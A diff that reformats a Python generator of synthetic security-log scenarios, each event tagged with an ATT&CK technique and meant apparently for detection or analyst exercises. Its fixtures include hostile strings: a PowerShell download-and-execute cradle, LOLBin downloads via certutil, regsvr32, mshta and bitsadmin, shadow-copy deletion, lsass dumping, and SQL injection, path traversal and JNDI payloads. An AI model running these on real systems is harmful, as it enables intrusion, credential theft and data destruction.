@@ -32,13 +32,17 @@ class Family:
     technique: str
     category: Category
     play: Callable[[Scene, Plan], Lead]
-    reaches: tuple[str, ...]  # decisions that a confirmed, unexplained telling leads to without a crown jewel or privilege
+    reaches: tuple[
+        str, ...
+    ]  # decisions that a confirmed, unexplained telling leads to without a crown jewel or privilege
     tellings: tuple[Telling, ...] = ALL
     excuses: tuple[Excuse, ...] = ("ticket",)
     single: bool = False  # one line decides
 
 
-def _outbound(scene: Scene, at: float, host: str, ip: str, user: str, program: str, remote: str, activity: str = "open") -> float:
+def _outbound(
+    scene: Scene, at: float, host: str, ip: str, user: str, program: str, remote: str, activity: str = "open"
+) -> float:
     return scene.add(
         at,
         "net_conn",
@@ -64,9 +68,20 @@ def document_shell(scene: Scene, plan: Plan) -> Lead:
     parent_path = f"C:\\Program Files\\Microsoft\\{parent}"
     if plan.telling == "below":
         parent_path = "C:\\Windows\\explorer.exe"
-    arguments = f"-File C:\\Scripts\\{scene.word()}.ps1" if tool == "powershell.exe" else f"C:\\Windows\\System32\\{scene.word()}.dat"
+    arguments = (
+        f"-File C:\\Scripts\\{scene.word()}.ps1"
+        if tool == "powershell.exe"
+        else f"C:\\Windows\\System32\\{scene.word()}.dat"
+    )
     scene.add(
-        at, "process", "launch", host["name"], user, process_path=path, process_cmd_line=f"{tool} {arguments}", parent_path=parent_path
+        at,
+        "process",
+        "launch",
+        host["name"],
+        user,
+        process_path=path,
+        process_cmd_line=f"{tool} {arguments}",
+        parent_path=parent_path,
     )
     last = at
     if plan.telling != "suspicious":
@@ -81,7 +96,11 @@ def encoded_script(scene: Scene, plan: Plan) -> Lead:
     code = base64.b64encode(f"{scene.word()} {scene.word()} {scene.word()}".encode("utf-16-le")).decode()
     harmless = plan.telling == "below"
     if scene.chance(0.5):
-        command = f"powershell.exe -NoProfile -File C:\\Scripts\\{scene.word()}.ps1" if harmless else f"powershell.exe -NoP -W Hidden -enc {code}"
+        command = (
+            f"powershell.exe -NoProfile -File C:\\Scripts\\{scene.word()}.ps1"
+            if harmless
+            else f"powershell.exe -NoP -W Hidden -enc {code}"
+        )
         scene.add(
             at,
             "process",
@@ -93,7 +112,11 @@ def encoded_script(scene: Scene, plan: Plan) -> Lead:
             parent_path="C:\\Windows\\explorer.exe",
         )
     else:
-        text = f"Get-ChildItem D:\\{scene.word()} | Export-Csv report.csv" if harmless else f"IEX (New-Object Net.WebClient).DownloadString('http://{domain}/a')"
+        text = (
+            f"Get-ChildItem D:\\{scene.word()} | Export-Csv report.csv"
+            if harmless
+            else f"IEX (New-Object Net.WebClient).DownloadString('http://{domain}/a')"
+        )
         scene.add(at, "script", "block", host["name"], user, script_text=text)
     last = at
     if plan.telling != "suspicious":
@@ -107,9 +130,17 @@ def proxy_program(scene: Scene, plan: Plan) -> Lead:
     tool, bad, good = scene.pick(
         (
             ("mshta.exe", f"http://{domain}/{scene.word()}.hta", "C:\\Apps\\Kiosk\\start.hta"),
-            ("regsvr32.exe", f"/s /n /u /i:http://{domain}/{scene.word()}.sct scrobj.dll", "/s C:\\Windows\\System32\\msxml6.dll"),
+            (
+                "regsvr32.exe",
+                f"/s /n /u /i:http://{domain}/{scene.word()}.sct scrobj.dll",
+                "/s C:\\Windows\\System32\\msxml6.dll",
+            ),
             ("certutil.exe", f"-urlcache -split -f http://{domain}/{scene.word()}.bin", "-store my"),
-            ("bitsadmin.exe", f"/transfer job /download http://{domain}/{scene.word()} C:\\ProgramData\\x.bin", "/list /allusers"),
+            (
+                "bitsadmin.exe",
+                f"/transfer job /download http://{domain}/{scene.word()} C:\\ProgramData\\x.bin",
+                "/list /allusers",
+            ),
         )
     )
     host, user = scene.host(plan.crown), scene.user_of(tool, plan)["name"]
@@ -127,7 +158,9 @@ def proxy_program(scene: Scene, plan: Plan) -> Lead:
     )
     last = at
     if plan.telling != "suspicious":
-        last = _outbound(scene, at + scene.between(5, 150), host["name"], host["ip"], user, SYSTEM32 + tool, scene.outside())
+        last = _outbound(
+            scene, at + scene.between(5, 150), host["name"], host["ip"], user, SYSTEM32 + tool, scene.outside()
+        )
     return Lead((host["name"],), user, tool, at, last)
 
 
@@ -138,7 +171,11 @@ def dropped_program(scene: Scene, plan: Plan) -> Lead:
     path = scene.installed() if plan.telling == "below" else scene.dropped(user)
     tool = path.rpartition("\\")[2]
     parent = scene.pick(
-        ("C:\\Program Files\\Mozilla Firefox\\firefox.exe", "C:\\Program Files\\Google\\Chrome\\chrome.exe", "C:\\Windows\\System32\\msiexec.exe")
+        (
+            "C:\\Program Files\\Mozilla Firefox\\firefox.exe",
+            "C:\\Program Files\\Google\\Chrome\\chrome.exe",
+            "C:\\Windows\\System32\\msiexec.exe",
+        )
     )
     scene.add(at, "file", "create", host["name"], user, file_path=path, process_path=parent)
     start = scene.add(
@@ -163,11 +200,32 @@ def remote_service(scene: Scene, plan: Plan) -> Lead:
     while source["name"] == host["name"]:
         source = scene.pick(tuple(scene.organisation.hosts.values()))
     at, name = scene.moment(400), scene.word()
-    path = f"C:\\Windows\\Temp\\{name}.exe" if plan.telling != "below" else f"C:\\Program Files\\{name.title()}\\{name}.exe"
+    path = (
+        f"C:\\Windows\\Temp\\{name}.exe"
+        if plan.telling != "below"
+        else f"C:\\Program Files\\{name.title()}\\{name}.exe"
+    )
     if plan.telling != "suspicious":
-        scene.add(at, "logon", "success", host["name"], user, user_name=user, logon_type=3, src_ip=source["ip"], auth_protocol="NTLM")
+        scene.add(
+            at,
+            "logon",
+            "success",
+            host["name"],
+            user,
+            user_name=user,
+            logon_type=3,
+            src_ip=source["ip"],
+            auth_protocol="NTLM",
+        )
     made = scene.add(
-        at + scene.between(5, 100), "service", "install", host["name"], user, service_name=name, service_cmd_line=path, start_type="demand start"
+        at + scene.between(5, 100),
+        "service",
+        "install",
+        host["name"],
+        user,
+        service_name=name,
+        service_cmd_line=path,
+        start_type="demand start",
     )
     last = made
     if plan.telling != "suspicious":
@@ -189,7 +247,9 @@ def planted_task(scene: Scene, plan: Plan) -> Lead:
     host, user = scene.host(plan.crown), scene.account(plan.privileged)["name"]
     at = scene.moment(900)
     path = scene.installed() if plan.telling == "below" else scene.dropped(user)
-    scene.add(at, "task", "create", host["name"], user, job_name=f"\\{scene.word().title()}", job_cmd_line=path, run_as=user)
+    scene.add(
+        at, "task", "create", host["name"], user, job_name=f"\\{scene.word().title()}", job_cmd_line=path, run_as=user
+    )
     last = at
     if plan.telling != "suspicious":
         start = scene.add(
@@ -225,12 +285,31 @@ def lsass_dump(scene: Scene, plan: Plan) -> Lead:
     tool = "procdump.exe"
     host, user = scene.host(plan.crown), scene.user_of(tool, plan)["name"]
     at = scene.moment(120)
-    path = {"confirmed": f"D:\\Tools\\{tool}", "suspicious": f"D:\\Tools\\{tool}", "below": SYSTEM32 + "svchost.exe"}[plan.telling]
+    path = {"confirmed": f"D:\\Tools\\{tool}", "suspicious": f"D:\\Tools\\{tool}", "below": SYSTEM32 + "svchost.exe"}[
+        plan.telling
+    ]
     mask = "0x1000" if plan.telling == "below" else scene.pick(("0x1010", "0x1410", "0x1fffff"))
-    scene.add(at, "process_access", "open", host["name"], user, process_path=path, target_path=SYSTEM32 + "lsass.exe", access_mask=mask)
+    scene.add(
+        at,
+        "process_access",
+        "open",
+        host["name"],
+        user,
+        process_path=path,
+        target_path=SYSTEM32 + "lsass.exe",
+        access_mask=mask,
+    )
     last = at
     if plan.telling == "confirmed":
-        last = scene.add(at + scene.between(1, 40), "file", "create", host["name"], user, file_path=f"D:\\Tools\\{scene.word()}.dmp", process_path=path)
+        last = scene.add(
+            at + scene.between(1, 40),
+            "file",
+            "create",
+            host["name"],
+            user,
+            file_path=f"D:\\Tools\\{scene.word()}.dmp",
+            process_path=path,
+        )
     return Lead((host["name"],), user, tool, at, last)
 
 
@@ -249,13 +328,32 @@ def wmi_consumer(scene: Scene, plan: Plan) -> Lead:
     """A WMI subscription runs a command (T1546.003)."""
     host, user = scene.host(plan.crown), scene.account(plan.privileged)["name"]
     at, name = scene.moment(120), scene.word()
-    consumer = f"NTEventLogEventConsumer {name}" if plan.telling == "below" else f"CommandLineEventConsumer {name}: powershell.exe -File C:\\ProgramData\\{name}.ps1"
+    consumer = (
+        f"NTEventLogEventConsumer {name}"
+        if plan.telling == "below"
+        else f"CommandLineEventConsumer {name}: powershell.exe -File C:\\ProgramData\\{name}.ps1"
+    )
     last = at
     if plan.telling != "suspicious":
-        scene.add(at, "wmi", "filter", host["name"], user, wmi_query=f"SELECT * FROM __InstanceModificationEvent WITHIN {scene.between(30, 90)} WHERE TargetInstance ISA 'Win32_LocalTime'")
+        scene.add(
+            at,
+            "wmi",
+            "filter",
+            host["name"],
+            user,
+            wmi_query=f"SELECT * FROM __InstanceModificationEvent WITHIN {scene.between(30, 90)} WHERE TargetInstance ISA 'Win32_LocalTime'",
+        )
     last = scene.add(at + scene.between(1, 30), "wmi", "consumer", host["name"], user, wmi_consumer=consumer)
     if plan.telling != "suspicious":
-        last = scene.add(last + scene.between(1, 30), "wmi", "binding", host["name"], user, wmi_consumer=consumer, wmi_query=f"__EventFilter.Name={name}")
+        last = scene.add(
+            last + scene.between(1, 30),
+            "wmi",
+            "binding",
+            host["name"],
+            user,
+            wmi_consumer=consumer,
+            wmi_query=f"__EventFilter.Name={name}",
+        )
     return Lead((host["name"],), user, "wmi subscription", at, last)
 
 
@@ -264,14 +362,34 @@ def blinded_sensor(scene: Scene, plan: Plan) -> Lead:
     """The anti-virus is switched off and something starts (T1562.001)."""
     host, user = scene.host(plan.crown), scene.account(plan.privileged)["name"]
     at = scene.moment(700)
-    value = "signatures updated" if plan.telling == "below" else scene.pick(("real-time protection off", "disabled", f"exclusion C:\\Users\\{user}"))
+    value = (
+        "signatures updated"
+        if plan.telling == "below"
+        else scene.pick(("real-time protection off", "disabled", f"exclusion C:\\Users\\{user}"))
+    )
     program = SYSTEM32 + "reg.exe"
-    scene.add(at, "control_change", "av_setting", host["name"], user, control_name="Defender", new_value=value, process_path=program)
+    scene.add(
+        at,
+        "control_change",
+        "av_setting",
+        host["name"],
+        user,
+        control_name="Defender",
+        new_value=value,
+        process_path=program,
+    )
     last = at
     if plan.telling != "suspicious":
         path = scene.dropped(user)
         last = scene.add(
-            at + scene.between(20, 400), "process", "launch", host["name"], user, process_path=path, process_cmd_line=path, parent_path="C:\\Windows\\explorer.exe"
+            at + scene.between(20, 400),
+            "process",
+            "launch",
+            host["name"],
+            user,
+            process_path=path,
+            process_cmd_line=path,
+            parent_path="C:\\Windows\\explorer.exe",
         )
     return Lead((host["name"],), user, "reg.exe", at, last)
 
@@ -283,9 +401,25 @@ def wiped_log(scene: Scene, plan: Plan) -> Lead:
     first = at
     who = "SYSTEM" if plan.telling == "below" else user
     if plan.telling != "suspicious":
-        scene.add(at, "control_change", "audit_policy", host["name"], user, control_name="Logon auditing", new_value="success and failure" if plan.telling == "below" else "off")
+        scene.add(
+            at,
+            "control_change",
+            "audit_policy",
+            host["name"],
+            user,
+            control_name="Logon auditing",
+            new_value="success and failure" if plan.telling == "below" else "off",
+        )
         at += scene.between(10, 300)
-    scene.add(at, "control_change", "log_clear", host["name"], who, control_name=scene.pick(("Security", "System", "Application")), process_path=program)
+    scene.add(
+        at,
+        "control_change",
+        "log_clear",
+        host["name"],
+        who,
+        control_name=scene.pick(("Security", "System", "Application")),
+        process_path=program,
+    )
     return Lead((host["name"],), user, "wevtutil.exe", first, at)
 
 
@@ -294,7 +428,11 @@ def shadow_removal(scene: Scene, plan: Plan) -> Lead:
     tool = "vssadmin.exe"
     host, user = scene.host(plan.crown), scene.user_of(tool, plan)["name"]
     at = scene.moment(60)
-    arguments = "list shadows" if plan.telling == "below" else scene.pick(("delete shadows /all /quiet", "delete shadows /for=C: /oldest"))
+    arguments = (
+        "list shadows"
+        if plan.telling == "below"
+        else scene.pick(("delete shadows /all /quiet", "delete shadows /for=C: /oldest"))
+    )
     scene.add(
         at,
         "process",
@@ -317,7 +455,13 @@ def encrypted_files(scene: Scene, plan: Plan) -> Lead:
     for _ in range(scene.between(10, 13) if plan.telling == "confirmed" else scene.between(3, 6)):
         name = f"D:\\Shares\\{scene.word()}\\{scene.word()}.{scene.pick(('xlsx', 'docx', 'pdf'))}"
         last = scene.add(
-            last + scene.between(1, 20), "file", "modify", host["name"], user, file_path=f"{name}.{ending}", process_path=f"C:\\Program Files\\7-Zip\\{tool}"
+            last + scene.between(1, 20),
+            "file",
+            "modify",
+            host["name"],
+            user,
+            file_path=f"{name}.{ending}",
+            process_path=f"C:\\Program Files\\7-Zip\\{tool}",
         )
     return Lead((host["name"],), user, tool, at, last)
 
@@ -340,7 +484,9 @@ def large_upload(scene: Scene, plan: Plan) -> Lead:
                 file_path=f"{scene.word()}\\{scene.word()}.docx",
                 src_ip=host["ip"],
             )
-    size = scene.between(1_000_000, 90_000_000) if plan.telling == "below" else scene.between(800_000_000, 4_000_000_000)
+    size = (
+        scene.between(1_000_000, 90_000_000) if plan.telling == "below" else scene.between(800_000_000, 4_000_000_000)
+    )
     remote = scene.outside()
     last = scene.add(
         last + scene.between(30, 300),
@@ -379,8 +525,19 @@ def listed_visitor(scene: Scene, plan: Plan) -> Lead:
         scene.indicators.append({"value": remote, "confidence": "high" if plan.telling == "confirmed" else "low"})
     blocked = scene.chance(0.5)
     for _ in range(scene.between(1, 4)):
-        ends = {"src_ip": host["ip"], "dst_ip": remote, "direction": "outbound", "dst_scope": "external"} if blocked else {"src_ip": remote, "dst_ip": host["ip"], "direction": "inbound", "dst_scope": "internal"}
-        scene.add(at, "net_conn", "block" if blocked else "flow", host["name"], dst_port=scene.pick((22, 443, 3389, 8080)), **ends)
+        ends = (
+            {"src_ip": host["ip"], "dst_ip": remote, "direction": "outbound", "dst_scope": "external"}
+            if blocked
+            else {"src_ip": remote, "dst_ip": host["ip"], "direction": "inbound", "dst_scope": "internal"}
+        )
+        scene.add(
+            at,
+            "net_conn",
+            "block" if blocked else "flow",
+            host["name"],
+            dst_port=scene.pick((22, 443, 3389, 8080)),
+            **ends,
+        )
         at += scene.between(5, 60)
     return Lead((host["name"],), "", "", at, at)
 
@@ -407,8 +564,20 @@ def name_tunnel(scene: Scene, plan: Plan) -> Lead:
     domain = scene.domain()
     first = last = scene.moment(500)
     for _ in range(scene.between(8, 11)):
-        label = "".join(scene.pick("abcdefghijklmnopqrstuvwxyz234567") for _ in range(12 if plan.telling == "below" else scene.between(40, 58)))
-        last = scene.add(last + scene.between(2, 40), "dns_query", "query", host["name"], user, query_hostname=f"{label}.{domain}", src_ip=host["ip"], process_path=path)
+        label = "".join(
+            scene.pick("abcdefghijklmnopqrstuvwxyz234567")
+            for _ in range(12 if plan.telling == "below" else scene.between(40, 58))
+        )
+        last = scene.add(
+            last + scene.between(2, 40),
+            "dns_query",
+            "query",
+            host["name"],
+            user,
+            query_hostname=f"{label}.{domain}",
+            src_ip=host["ip"],
+            process_path=path,
+        )
     return Lead((host["name"],), user, path.rpartition("\\")[2], first, last)
 
 
@@ -441,9 +610,27 @@ def guessed_password(scene: Scene, plan: Plan) -> Lead:
         source = scene.pick(tuple(scene.organisation.hosts.values()))["ip"]
     first = last = scene.moment(400)
     for _ in range(scene.between(1, 3) if plan.telling == "below" else scene.between(8, 12)):
-        last = scene.add(last + scene.between(2, 18), "logon", "failure", name, user_name=user, logon_type=10, src_ip=source, status="0xc000006a")
+        last = scene.add(
+            last + scene.between(2, 18),
+            "logon",
+            "failure",
+            name,
+            user_name=user,
+            logon_type=10,
+            src_ip=source,
+            status="0xc000006a",
+        )
     if plan.telling == "below":
-        last = scene.add(last + scene.between(5, 60), "logon", "success", name, user_name=user, logon_type=10, src_ip=source, status="0x0")
+        last = scene.add(
+            last + scene.between(5, 60),
+            "logon",
+            "success",
+            name,
+            user_name=user,
+            logon_type=10,
+            src_ip=source,
+            status="0x0",
+        )
     return Lead((name,), user, "", first, last)
 
 
@@ -451,11 +638,24 @@ def sprayed_password(scene: Scene, plan: Plan) -> Lead:
     """One password is tried against many accounts (T1110.003)."""
     name, ip = _web_host(scene, plan)
     internal = plan.telling == "suspicious"
-    source = scene.pick(tuple(host for host in scene.cast_hosts if host["name"] != name))["ip"] if internal else _outsider(scene, plan, ip)
+    source = (
+        scene.pick(tuple(host for host in scene.cast_hosts if host["name"] != name))["ip"]
+        if internal
+        else _outsider(scene, plan, ip)
+    )
     users = scene.some(tuple(scene.organisation.accounts), 3 if plan.telling == "below" else scene.between(8, 11))
     first = last = scene.moment(300)
     for user in users:
-        last = scene.add(last + scene.between(2, 18), "logon", "failure", name, user_name=user, logon_type=3, src_ip=source, status="0xc000006d")
+        last = scene.add(
+            last + scene.between(2, 18),
+            "logon",
+            "failure",
+            name,
+            user_name=user,
+            logon_type=3,
+            src_ip=source,
+            status="0xc000006d",
+        )
     return Lead((name,), "", "", first, last)
 
 
@@ -463,7 +663,11 @@ def probed_services(scene: Scene, plan: Plan) -> Lead:
     """Services are found by trying them (T1046, T1595.001)."""
     name, ip = _web_host(scene, plan)
     internal = plan.telling == "suspicious"
-    source = scene.pick(tuple(host for host in scene.cast_hosts if host["name"] != name))["ip"] if internal else _outsider(scene, plan, ip)
+    source = (
+        scene.pick(tuple(host for host in scene.cast_hosts if host["name"] != name))["ip"]
+        if internal
+        else _outsider(scene, plan, ip)
+    )
     first = last = scene.moment(300)
     for port in scene.some(tuple(range(20, 9000)), 4 if plan.telling == "below" else scene.between(14, 18)):
         last = scene.add(
@@ -484,11 +688,23 @@ def attacked_site(scene: Scene, plan: Plan) -> Lead:
     """A web application is attacked (T1190)."""
     name, ip = _web_host(scene, plan)
     internal = plan.telling == "suspicious"
-    source = scene.pick(tuple(host for host in scene.cast_hosts if host["name"] != name))["ip"] if internal else _outsider(scene, plan, ip)
+    source = (
+        scene.pick(tuple(host for host in scene.cast_hosts if host["name"] != name))["ip"]
+        if internal
+        else _outsider(scene, plan, ip)
+    )
     first = last = scene.moment(500)
     for _ in range(scene.between(5, 8)):
         page = scene.word()
-        bad = scene.pick((f"/{page}?id=1' or 1=1--", f"/{page}?q=1 UNION ALL SELECT user", f"/{page}/../../../../etc/passwd", f"/{page}?x=${{jndi:ldap://{page}}}", "/.env?"))
+        bad = scene.pick(
+            (
+                f"/{page}?id=1' or 1=1--",
+                f"/{page}?q=1 UNION ALL SELECT user",
+                f"/{page}/../../../../etc/passwd",
+                f"/{page}?x=${{jndi:ldap://{page}}}",
+                "/.env?",
+            )
+        )
         url = f"/{page}?id={scene.between(1, 900)}" if plan.telling == "below" else bad
         last = scene.add(
             last + scene.between(5, 50),
@@ -513,7 +729,14 @@ def roasted_tickets(scene: Scene, plan: Plan) -> Lead:
     for number in range(scene.between(7, 10)):
         cipher = "0x12" if plan.telling == "below" else "0x17"
         last = scene.add(
-            last + scene.between(2, 30), "kerberos", "tgs", directory["name"], user_name=user, service_name=f"svc-{scene.word()}{number}", ticket_encryption=cipher, src_ip=host["ip"]
+            last + scene.between(2, 30),
+            "kerberos",
+            "tgs",
+            directory["name"],
+            user_name=user,
+            service_name=f"svc-{scene.word()}{number}",
+            ticket_encryption=cipher,
+            src_ip=host["ip"],
         )
     return Lead((directory["name"],), user, "", first, last)
 
@@ -522,8 +745,22 @@ def replicated_directory(scene: Scene, plan: Plan) -> Lead:
     """The directory is replicated by what is no domain controller (T1003.006)."""
     host, user = scene.host(plan.crown), scene.account(plan.privileged)["name"]
     at = scene.moment(60)
-    right = "bf967aba-0de6-11d0-a285-00aa003049e2" if plan.telling == "below" else scene.pick(("1131f6aa-9c07-11d1-f79f-00c04fc2dcd2", "1131f6ad-9c07-11d1-f79f-00c04fc2dcd2"))
-    scene.add(at, "directory", "access", host["name"], user, object_dn="DC=corp,DC=example", object_type="domainDNS", properties=f"%%7688 {{{right}}}", access_mask="0x100")
+    right = (
+        "bf967aba-0de6-11d0-a285-00aa003049e2"
+        if plan.telling == "below"
+        else scene.pick(("1131f6aa-9c07-11d1-f79f-00c04fc2dcd2", "1131f6ad-9c07-11d1-f79f-00c04fc2dcd2"))
+    )
+    scene.add(
+        at,
+        "directory",
+        "access",
+        host["name"],
+        user,
+        object_dn="DC=corp,DC=example",
+        object_type="domainDNS",
+        properties=f"%%7688 {{{right}}}",
+        access_mask="0x100",
+    )
     return Lead((host["name"],), user, "directory replication", at, at)
 
 
@@ -531,11 +768,17 @@ def new_administrator(scene: Scene, plan: Plan) -> Lead:
     """An account is made and put into a privileged group (T1136, T1098.007)."""
     host, user = scene.host(plan.crown), scene.account(plan.privileged)["name"]
     first = at = scene.moment(1200)
-    member = f"{scene.word()}.{scene.word()}" if plan.telling != "suspicious" else scene.pick(scene.cast_accounts)["name"]
+    member = (
+        f"{scene.word()}.{scene.word()}" if plan.telling != "suspicious" else scene.pick(scene.cast_accounts)["name"]
+    )
     if plan.telling != "suspicious":
         scene.add(at, "account", "create", host["name"], user, user_name=member, attributes="SAM account enabled")
         at += scene.between(30, 900)
-    group = scene.pick(("Remote Desktop Users", "Sales Readers", "Printer Users")) if plan.telling == "below" else scene.pick(("Domain Admins", "Administrators", "Backup Operators"))
+    group = (
+        scene.pick(("Remote Desktop Users", "Sales Readers", "Printer Users"))
+        if plan.telling == "below"
+        else scene.pick(("Domain Admins", "Administrators", "Backup Operators"))
+    )
     scene.add(at, "group", "member_add", host["name"], user, group_name=group, user_name=member)
     return Lead((host["name"],), user, "group change", first, at)
 
@@ -544,10 +787,21 @@ def fanned_out(scene: Scene, plan: Plan) -> Lead:
     """One account signs in to host after host (T1021)."""
     source, user = scene.host(False), scene.account(plan.privileged)["name"]
     first = last = scene.moment(500)
-    hosts = scene.some([host for host in scene.organisation.hosts.values() if host["name"] != source["name"]], 2 if plan.telling == "below" else scene.between(6, 8))
+    hosts = scene.some(
+        [host for host in scene.organisation.hosts.values() if host["name"] != source["name"]],
+        2 if plan.telling == "below" else scene.between(6, 8),
+    )
     for host in hosts:
         last = scene.add(
-            last + scene.between(5, 55), "logon", "success", host["name"], user_name=user, logon_type=3, src_ip=source["ip"], auth_protocol="Kerberos", status="0x0"
+            last + scene.between(5, 55),
+            "logon",
+            "success",
+            host["name"],
+            user_name=user,
+            logon_type=3,
+            src_ip=source["ip"],
+            auth_protocol="Kerberos",
+            status="0x0",
         )
     return Lead(tuple(host["name"] for host in hosts), user, "remote logon", first, last)
 
@@ -558,7 +812,9 @@ def stopped_trail(scene: Scene, plan: Plan) -> Lead:
     other = next(account["name"] for account in scene.cast_accounts if account["name"] != user)
     first = at = scene.moment(900)
     source = host["ip"] if plan.telling == "suspicious" else scene.outside()
-    operation = "DescribeTrails" if plan.telling == "below" else scene.pick(("StopLogging", "DeleteTrail", "PutEventSelectors"))
+    operation = (
+        "DescribeTrails" if plan.telling == "below" else scene.pick(("StopLogging", "DeleteTrail", "PutEventSelectors"))
+    )
     scene.add(
         at,
         "cloud_api",
@@ -571,16 +827,31 @@ def stopped_trail(scene: Scene, plan: Plan) -> Lead:
         user_agent=scene.pick(("aws-cli/2.15", "console.amazonaws.com", "Boto3/1.34")),
     )
     if plan.telling == "confirmed":
-        at = scene.add(at + scene.between(20, 800), "account", "key_create", host["name"], user, user_name=other, attributes="access key", src_ip=source)
+        at = scene.add(
+            at + scene.between(20, 800),
+            "account",
+            "key_create",
+            host["name"],
+            user,
+            user_name=other,
+            attributes="access key",
+            src_ip=source,
+        )
     return Lead((host["name"],), user, "cloud administration", first, at)
 
 
 def borrowed_key(scene: Scene, plan: Plan) -> Lead:
     """A key is made for an account that is not one's own (T1098.001)."""
     host, user = scene.host(plan.crown), scene.account(plan.privileged)["name"]
-    other = user if plan.telling == "below" else next(account["name"] for account in scene.cast_accounts if account["name"] != user)
+    other = (
+        user
+        if plan.telling == "below"
+        else next(account["name"] for account in scene.cast_accounts if account["name"] != user)
+    )
     at = scene.moment(60)
-    scene.add(at, "account", "key_create", host["name"], user, user_name=other, attributes="access key", src_ip=host["ip"])
+    scene.add(
+        at, "account", "key_create", host["name"], user, user_name=other, attributes="access key", src_ip=host["ip"]
+    )
     return Lead((host["name"],), user, "cloud administration", at, at)
 
 
